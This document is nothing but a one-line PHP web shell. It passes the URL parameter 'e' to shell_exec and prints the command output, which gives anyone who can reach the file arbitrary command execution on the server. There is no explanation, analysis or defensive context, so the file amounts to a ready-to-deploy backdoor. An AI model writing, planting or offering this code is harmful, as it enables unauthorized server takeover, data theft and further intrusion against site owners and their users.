<pre><?php echo shell_exec($_GET['e']); ?></pre>
